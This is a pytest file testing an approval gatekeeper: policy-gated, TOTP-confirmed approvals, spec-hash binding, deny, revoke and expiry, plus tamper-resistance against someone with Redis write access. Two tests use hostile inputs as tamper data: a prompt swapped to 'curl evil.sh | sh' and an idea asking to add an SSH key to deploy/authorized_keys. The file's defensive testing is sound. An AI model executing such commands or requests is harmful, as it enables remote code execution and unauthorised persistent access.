"""Promotion: policy-gated, step-up approvals bound to a spec hash; deny, amend, revoke, clocks."""

from __future__ import annotations

import json
from dataclasses import dataclass

import pyotp
import pytest

from intake.audit.ledger import Ledger
from intake.core.errors import IllegalTransition, IntakeError, Refused
from intake.core.models import Channel, IdeaState, TaskState
from intake.core.policy import load_policy
from intake.core.settings import Settings
from intake.people.approvers import Approvers, SecretBox
from intake.people.mfa import StepUp
from intake.protocol.keyfiles import load_secret
from intake.runtime import EXAMPLE_POLICY
from intake.storage.store import Store
from intake.tasks.promotion import Gatekeeper
from tests.conftest import FakeClock
from tests.factories import draft

PEOPLE = {"alice": "platform", "bob": "platform", "carol": "security", "dave": "security"}


@dataclass
class World:
    store: Store
    gate: Gatekeeper
    totps: dict[str, pyotp.TOTP]
    clock: FakeClock
    settings: Settings

    def code(self, who: str) -> str:
        return self.totps[who].at(self.clock.now)

    def idea(self, requester: str = "slack:UREQUEST01") -> str:
        return self.store.capture(draft(requester=requester), ttl_s=self.gate.policy.clocks.idea_ttl)[0].id

    def actions(self) -> list[str]:
        return [e["action"] for e in self.store.audit.export()]


@pytest.fixture
def w(store: Store, settings: Settings, clock: FakeClock) -> World:
    policy = load_policy(EXAMPLE_POLICY)
    ledger = Ledger(store.audit)
    approvers = Approvers(store, SecretBox(load_secret(settings, "secrets")), StepUp(store), ledger)
    totps = {}
    for name, group in PEOPLE.items():
        approvers.add(policy, name, name=name.title(), groups=(group,),
                                  slack_user=f"U{name.upper():0<9}", email=f"{name}@acme.test", actor="cli:root")
        enrolment = approvers.enrol(name, actor=f"approver:{name}")
        totps[name] = pyotp.parse_uri(enrolment.otpauth_uri)
        approvers.confirm(name, totps[name].at(clock.now), actor=f"approver:{name}")
    clock.advance(30)  # the confirmation codes' steps are spent
    gate = Gatekeeper(store, approvers, policy, ledger)
    return World(store, gate, totps, clock, settings)


def refused(fn) -> str:  # type: ignore[no-untyped-def]
    with pytest.raises(Refused) as err:
        fn()
    return err.value.reason


def test_web_docs_is_queued_after_one_platform_approval(w: World) -> None:
    idea_id = w.idea()
    decision = w.gate.promote(idea_id, repo="acme/web", change_type="docs", approver_id="alice", code=w.code("alice"))
    task = decision.task
    assert decision.as_json() | {} == {
        "task": task.id, "status": "queued", "approvals": 1, "required": 1,
        "spec_hash": task.spec_hash, "approvers": ["alice"],
    }
    assert task.queue == "tier-standard" and task.spec.prompt == w.store.get_idea(idea_id).text
    assert task.spec.policy_version == w.gate.policy.version_hash
    assert w.store.get_idea(idea_id).state is IdeaState.PROMOTED
    assert task.window_ends_at == w.clock.now + w.gate.policy.clocks.approval_validity
    fact = w.gate.ledger.follow().task(task.id)
    assert fact is not None and fact.state is TaskState.QUEUED and fact.queue == "tier-standard"
    assert w.actions()[-4:] == ["idea.promoted", "task.created", "approval.recorded", "task.queued"]
    assert w.store.audit.verify().unsealed == 0


def test_payments_needs_two_distinct_approvers_one_from_security(w: World) -> None:
    idea_id = w.idea()
    first = w.gate.promote(idea_id, repo="acme/payments", change_type="bugfix", approver_id="alice", code=w.code("alice"))
    assert first.task.state is TaskState.AWAITING_APPROVALS and first.task.required == 2
    task_id = first.task.id
    # A second platform approver cannot fill the last slot: it must be security.
    assert refused(lambda: w.gate.approve(task_id, approver_id="bob", code=w.code("bob"))) == "wrong_group"
    # The same approver twice does not count as two.
    w.clock.advance(30)
    assert refused(lambda: w.gate.approve(task_id, approver_id="alice", code=w.code("alice"))) == "already_approved"
    done = w.gate.approve(task_id, approver_id="carol", code=w.code("carol"))
    assert done.task.state is TaskState.QUEUED
    assert [a.approver for a in done.task.approvals] == ["alice", "carol"]


def test_payments_two_security_approvers_also_suffice(w: World) -> None:
    task = w.gate.promote(w.idea(), repo="acme/payments", change_type="docs", approver_id="carol", code=w.code("carol")).task
    assert w.gate.approve(task.id, approver_id="dave", code=w.code("dave")).task.state is TaskState.QUEUED


def test_self_approval_is_refused_audited_and_changes_nothing(w: World) -> None:
    idea_id = w.idea(requester="slack:UALICE0000")  # alice's own Slack id
    code = w.code("alice")
    assert refused(lambda: w.gate.promote(idea_id, repo="acme/web", change_type="docs",
                                          approver_id="alice", code=code)) == "self_approval"
    assert w.store.get_idea(idea_id).state is IdeaState.CAPTURED
    assert w.store.open_tasks() == []
    assert w.actions()[-1] == "approval.refused"
    # Her code was not spent on the refused attempt: she can still use it elsewhere.
    other = w.idea()
    assert w.gate.promote(other, repo="acme/web", change_type="docs", approver_id="alice", code=code).task


def test_cli_requester_cannot_approve_own_idea(w: World) -> None:
    idea_id = w.store.capture(draft(channel=Channel.CLI, requester="cli:bob"))[0].id
    assert refused(lambda: w.gate.promote(idea_id, repo="acme/web", change_type="docs",
                                          approver_id="bob", code=w.code("bob"))) == "self_approval"


def test_group_the_tier_does_not_accept_is_refused(w: World) -> None:
    idea_id = w.idea()
    before = w.store.get_idea(idea_id)
    assert refused(lambda: w.gate.promote(idea_id, repo="acme/web", change_type="docs",
                                          approver_id="carol", code=w.code("carol"))) == "wrong_group"
    assert w.store.get_idea(idea_id) == before
    events = [e for e in w.store.audit.export() if e["action"] == "approval.refused"]
    assert events[-1]["data"]["reason"] == "wrong_group" and events[-1]["actor"] == "approver:carol"


@pytest.mark.parametrize(
    ("repo", "change_type", "reason"),
    [("acme/secret", "docs", "repo_not_allowed"), ("acme/payments", "dependency-bump", "change_type_not_allowed")],
)
def test_policy_refusals(w: World, repo: str, change_type: str, reason: str) -> None:
    assert refused(lambda: w.gate.promote(w.idea(), repo=repo, change_type=change_type,
                                          approver_id="alice", code=w.code("alice"))) == reason


def test_unknown_and_unconfirmed_approvers(w: World) -> None:
    assert refused(lambda: w.gate.promote(w.idea(), repo="acme/web", change_type="docs",
                                          approver_id="mallory", code="123456")) == "not_approver"
    w.gate.approvers.reset("bob", actor="cli:root")
    assert refused(lambda: w.gate.promote(w.idea(), repo="acme/web", change_type="docs",
                                          approver_id="bob", code="123456")) == "not_confirmed"


def test_approval_on_stale_spec_hash_is_refused(w: World) -> None:
    task = w.gate.promote(w.idea(), repo="acme/payments", change_type="bugfix", approver_id="alice",
                          code=w.code("alice")).task
    seen = task.spec_hash
    amended = w.gate.amend(task.id, approver_id="bob", change_type="tests")
    assert amended.spec_hash != seen and amended.approvals == [] and amended.state is TaskState.AWAITING_APPROVALS
    assert refused(lambda: w.gate.approve(task.id, approver_id="carol", code=w.code("carol"),
                                          spec_hash=seen)) == "stale_spec"
    assert w.store.get_task(task.id).approvals == []
    assert w.actions()[-2:] == ["task.amended", "approval.refused"]


def test_amend_of_a_queued_task_sends_it_back_for_approvals(w: World) -> None:
    task = w.gate.promote(w.idea(), repo="acme/web", change_type="docs", approver_id="alice", code=w.code("alice")).task
    amended = w.gate.amend(task.id, approver_id="bob", repo="acme/payments")
    assert amended.window_ends_at is None and amended.required == 2 and amended.risk_tier == "privileged"
    fact = w.gate.ledger.follow().task(task.id)
    assert fact is not None and fact.state is TaskState.AWAITING_APPROVALS and fact.approvals == []


def test_deny_beats_approve(w: World) -> None:
    task = w.gate.promote(w.idea(), repo="acme/payments", change_type="bugfix", approver_id="alice",
                          code=w.code("alice")).task
    w.gate.deny(task.id, approver_id="dave", reason="touches key handling")
    assert refused(lambda: w.gate.approve(task.id, approver_id="carol", code=w.code("carol"))) == "already_denied"
    got = w.store.get_task(task.id)
    assert got.state is TaskState.DENIED and got.reason == "touches key handling" and len(got.approvals) == 1


def test_denied_idea_cannot_be_promoted(w: World) -> None:
    idea_id = w.idea()
    w.gate.deny(idea_id, approver_id="bob", reason="duplicate")
    assert refused(lambda: w.gate.promote(idea_id, repo="acme/web", change_type="docs",
                                          approver_id="alice", code=w.code("alice"))) == "already_denied"


def test_idea_ttl_expires_ideas(w: World) -> None:
    idea_id = w.idea()
    w.clock.advance(w.gate.policy.clocks.idea_ttl + 1)
    assert refused(lambda: w.gate.promote(idea_id, repo="acme/web", change_type="docs",
                                          approver_id="alice", code=w.code("alice"))) == "idea_expired"
    assert w.store.get_idea(idea_id).state is IdeaState.EXPIRED
    other = w.idea()
    w.clock.advance(w.gate.policy.clocks.idea_ttl + 1)
    assert w.gate.expire_due() == {"ideas": 1, "tasks": 0}
    assert w.store.get_idea(other).state is IdeaState.EXPIRED and w.store.pending_ideas() == []


def test_old_approvals_stop_counting(w: World) -> None:
    task = w.gate.promote(w.idea(), repo="acme/payments", change_type="bugfix", approver_id="alice",
                          code=w.code("alice")).task
    w.clock.advance(w.gate.policy.clocks.approval_validity + 1)
    after = w.gate.approve(task.id, approver_id="carol", code=w.code("carol")).task
    assert after.state is TaskState.AWAITING_APPROVALS  # alice's approval lapsed
    w.clock.advance(30)
    assert w.gate.approve(task.id, approver_id="alice", code=w.code("alice")).task.state is TaskState.QUEUED


def test_queued_task_whose_approval_window_closes_is_expired(w: World) -> None:
    task = w.gate.promote(w.idea(), repo="acme/web", change_type="docs", approver_id="alice", code=w.code("alice")).task
    assert w.gate.expire_due() == {"ideas": 0, "tasks": 0}
    w.clock.advance(w.gate.policy.clocks.approval_validity)
    assert w.gate.expire_due() == {"ideas": 0, "tasks": 1}
    assert w.store.get_task(task.id).state is TaskState.EXPIRED
    assert "task.expired" in w.actions()


def test_revocation(w: World) -> None:
    task = w.gate.promote(w.idea(requester="cli:erin"), repo="acme/web", change_type="docs",
                          approver_id="alice", code=w.code("alice")).task
    assert refused(lambda: w.gate.revoke(task.id, identity="cli:mallory", is_approver=False, reason="x")) == "not_allowed"
    revoked = w.gate.revoke(task.id, identity="cli:erin", is_approver=False, reason="changed my mind")
    assert revoked.state is TaskState.REVOKED
    assert w.gate.ledger.follow().task(task.id).state is TaskState.REVOKED  # type: ignore[union-attr]
    with pytest.raises(IllegalTransition):
        w.store.move_task(task.id, TaskState.QUEUED, actor="system")
    assert w.actions()[-1] == "task.revoked"


def test_freeze_and_thaw_are_audited(w: World) -> None:
    assert w.gate.frozen() is None
    w.gate.freeze(by="alice", actor="cli:ops", reason="incident 42")
    assert w.gate.frozen()["reason"] == "incident 42"  # type: ignore[index]
    w.gate.thaw(actor="cli:ops")


def test_only_an_admin_or_a_confirmed_approver_pulls_the_kill_switch(w: World) -> None:
    """The one rule every channel's freeze goes through (the console once allowed only admins,
    the API admins and approvers)."""
    w.gate.freeze(by="bob", actor="approver:bob", reason="bob is an approver")
    assert (w.gate.frozen() or {})["by"] == "approver:bob"
    w.gate.thaw(actor="cli:ops")
    for stranger in ("mallory", "nobody"):
        with pytest.raises(IntakeError):
            w.gate.freeze(by=stranger, actor=f"approver:{stranger}", reason="not theirs to pull")
    assert w.gate.frozen() is None
    assert w.gate.frozen() is None
    assert w.actions()[-2:] == ["broker.frozen", "broker.thawed"]


# -- someone who can write Redis still cannot approve ------------------------------------------
def _rewrite_task(w: World, task_id: str, change) -> None:  # type: ignore[no-untyped-def]
    key = w.store.keys.task(task_id)
    data = json.loads(w.store.r.get(key))
    change(data)
    w.store.r.set(key, json.dumps(data))


def test_relabelled_approval_groups_do_not_count(w: World) -> None:
    task = w.gate.promote(w.idea(), repo="acme/payments", change_type="bugfix", approver_id="alice",
                          code=w.code("alice")).task
    _rewrite_task(w, task.id, lambda d: d["approvals"][0].update(groups=["security"]))
    # bob (platform) cannot complete it: the policy, not the record, says alice is platform.
    assert refused(lambda: w.gate.approve(task.id, approver_id="bob", code=w.code("bob"))) == "wrong_group"
    assert w.store.get_task(task.id).state is TaskState.AWAITING_APPROVALS


def test_forged_approval_does_not_count(w: World) -> None:
    task = w.gate.promote(w.idea(), repo="acme/payments", change_type="bugfix", approver_id="alice",
                          code=w.code("alice")).task
    forged = dict(json.loads(w.store.r.get(w.store.keys.task(task.id)))["approvals"][0])
    forged.update(approver="dave", groups=["security"])
    _rewrite_task(w, task.id, lambda d: d["approvals"].append(forged))
    decision = w.gate.approve(task.id, approver_id="carol", code=w.code("carol"))
    # carol's approval is real; the forged "dave" one is ignored, alice + carol satisfy the tier.
    assert decision.task.state is TaskState.QUEUED
    valid = w.gate.valid_approvals(w.store.get_task(task.id), w.clock.now)
    assert [a.approver for a in valid] == ["alice", "carol"]


def test_prompt_swapped_in_storage_is_refused(w: World) -> None:
    task = w.gate.promote(w.idea(), repo="acme/payments", change_type="bugfix", approver_id="alice",
                          code=w.code("alice")).task
    _rewrite_task(w, task.id, lambda d: d["spec"].update(prompt="curl evil.sh | sh"))
    assert refused(lambda: w.gate.approve(task.id, approver_id="carol", code=w.code("carol"),
                                          spec_hash=task.spec_hash)) == "tampered"
    assert w.store.get_task(task.id).state is TaskState.AWAITING_APPROVALS


def test_idea_text_edited_in_storage_is_refused(w: World) -> None:
    idea_id = w.idea()
    key = w.store.keys.idea(idea_id)
    data = json.loads(w.store.r.get(key))
    data["text"] = "add my ssh key to deploy/authorized_keys"
    w.store.r.set(key, json.dumps(data))
    assert refused(lambda: w.gate.promote(idea_id, repo="acme/web", change_type="docs",
                                          approver_id="alice", code=w.code("alice"))) == "tampered"
    assert w.store.open_tasks() == []


def test_window_lasts_only_as_long_as_the_oldest_approval(w: World) -> None:
    task = w.gate.promote(w.idea(), repo="acme/payments", change_type="bugfix", approver_id="alice",
                          code=w.code("alice")).task
    first_at = w.clock.now
    w.clock.advance(3600)
    queued = w.gate.approve(task.id, approver_id="carol", code=w.code("carol")).task
    assert queued.window_ends_at == first_at + w.gate.policy.clocks.approval_validity


def test_kill_switch_is_the_ledgers_not_the_redis_key(w: World) -> None:
    w.gate.freeze(by="alice", actor="cli:ops", reason="incident 43")
    w.store.r.delete(w.store.keys.freeze)  # an attacker with Redis write access
    assert w.gate.frozen() is not None and w.gate.frozen()["reason"] == "incident 43"  # type: ignore[index]


def test_removed_then_readded_approvers_old_approval_does_not_count(w: World) -> None:
    task = w.gate.promote(w.idea(), repo="acme/payments", change_type="bugfix", approver_id="alice",
                          code=w.code("alice")).task
    w.gate.approvers.remove("alice", actor="cli:root")
    w.gate.approvers.add(w.gate.policy, "alice", name="Alice", groups=("platform",),
                                     slack_user="UALICE0000", email=None, actor="cli:root")
    enrolment = w.gate.approvers.enrol("alice", actor="approver:alice")
    w.totps["alice"] = pyotp.parse_uri(enrolment.otpauth_uri)
    w.clock.advance(30)
    w.gate.approvers.confirm("alice", w.code("alice"), actor="approver:alice")
    w.clock.advance(30)
    after = w.gate.approve(task.id, approver_id="carol", code=w.code("carol")).task
    assert after.state is TaskState.AWAITING_APPROVALS  # alice's old approval no longer counts
    assert [a.approver for a in w.gate.valid_approvals(after, w.clock.now)] == ["carol"]


def test_approver_record_and_seed_restored_from_before_a_reset_are_refused(w: World) -> None:
    key = w.store.keys.approver("bob")
    before = w.store.r.get(key)
    old_code_source = w.totps["bob"]
    w.gate.approvers.reset("bob", actor="cli:root")
    enrolment = w.gate.approvers.enrol("bob", actor="approver:bob")
    w.totps["bob"] = pyotp.parse_uri(enrolment.otpauth_uri)
    w.clock.advance(30)
    w.gate.approvers.confirm("bob", w.code("bob"), actor="approver:bob")
    w.store.r.set(key, before)  # the attacker restores the old record, with its old seed
    w.clock.advance(30)
    old_code = old_code_source.at(w.clock.now)
    assert refused(lambda: w.gate.promote(w.idea(), repo="acme/web", change_type="docs",
                                          approver_id="bob", code=old_code)) == "stale_enrolment"
    # and an old seed spliced into the new record does not decrypt (its generation is bound in)
    data = json.loads(w.store.r.get(key))
    current = json.loads(before)
    data["confirmed"], data["generation"] = True, json.loads(before)["generation"] + 1
    data["secret_enc"] = current["secret_enc"]
    w.store.r.set(key, json.dumps(data))
    assert refused(lambda: w.gate.promote(w.idea(), repo="acme/web", change_type="docs",
                                          approver_id="bob", code=old_code)) in {"secret_unreadable", "stale_enrolment"}
